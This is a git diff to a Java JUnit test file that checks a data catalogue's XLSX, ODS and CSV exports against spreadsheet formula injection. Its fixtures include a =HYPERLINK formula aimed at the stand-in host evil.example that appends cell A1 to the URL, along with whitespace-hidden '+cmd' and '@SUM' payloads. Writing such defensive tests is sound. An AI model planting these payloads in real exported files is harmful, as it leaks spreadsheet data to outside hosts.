@@ -6,6 +6,7 @@ import java.io.ByteArrayInputStream;
 import java.io.IOException;
 import java.nio.charset.StandardCharsets;
 import java.time.LocalDate;
+import java.util.List;
 import java.util.zip.ZipEntry;
 import java.util.zip.ZipInputStream;
 import org.apache.poi.ss.usermodel.Cell;
@@ -16,6 +17,8 @@ import org.datafirst.catalogue.catalogue.document.DatasetDocument;
 import org.datafirst.catalogue.sources.DocumentParser;
 import org.datafirst.catalogue.support.SourceFiles;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
 
 /** A crafted description can never become a formula in an exported XLSX, ODS or CSV file. */
 class FormulaInjectionTest {
@@ -56,7 +59,7 @@ class FormulaInjectionTest {
         byte[] ods = OdsWriter.write(DictionarySheets.dataset(crafted()), TITLE);
         String content = entry(ods, "content.xml");
         assertThat(content).doesNotContain("table:formula").contains("<text:p>=HYPERLINK(\"https://evil.example/?\"&amp;A1");
-        SheetContent.Workbook read = OdsReader.read(ods, "crafted.ods", 1000);
+        SheetContent.Workbook read = WorkbookReader.read(ods, "crafted.ods", Workbooks.LIMITS, () -> false);
         assertThat(read.problems()).isEmpty();
         assertThat(read.sheet("Variables").orElseThrow().rows().get(3).cell(3)).isEqualTo(PAYLOAD);
     }
@@ -70,6 +73,29 @@ class FormulaInjectionTest {
                 .contains("\"'+1+cmd\"").contains("\"'@SUM(1,2)\"").contains("\"'-2+3\"");
         assertThat(CellText.forCsv("\tcmd")).isEqualTo("'\tcmd");
         assertThat(CellText.forCsv("plain")).isEqualTo("plain");
+    }
+
+    @ParameterizedTest(name = "{0}")
+    @ValueSource(strings = {" =1+1", "   +cmd", "  @SUM(1,2)", " -2+3", "\n=1+1", " \t=1+1", "\t=1+1"})
+    void spacesBeforeAFormulaDoNotHideIt(String text) throws IOException {
+        // CSV: prefixed with an apostrophe
+        assertThat(CellText.forCsv(text)).isEqualTo("'" + text);
+        // XLSX: a quote-prefixed (literal) text cell
+        Sheet sheet = new Sheet("S", List.of(Sheet.Column.of("Header", 20)), List.of(List.of(text)));
+        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(XlsxWriter.write(List.of(sheet), TITLE)))) {
+            Cell cell = workbook.getSheet("S").getRow(XlsxWriter.HEADER_ROWS).getCell(0);
+            assertThat(cell.getCellType()).isEqualTo(CellType.STRING);
+            assertThat(cell.getStringCellValue()).isEqualTo(text);
+            assertThat(cell.getCellStyle().getQuotePrefixed()).isTrue();
+        }
+        // ODS: a string cell, never a formula
+        assertThat(entry(OdsWriter.write(List.of(sheet), TITLE), "content.xml")).doesNotContain("table:formula");
+    }
+
+    @Test
+    void textThatOnlyContainsFormulaCharactersLaterIsLeftAlone() {
+        assertThat(CellText.forCsv("a = b")).isEqualTo("a = b");
+        assertThat(CellText.forCsv("   ")).isEqualTo("   ");
     }
 
     @Test
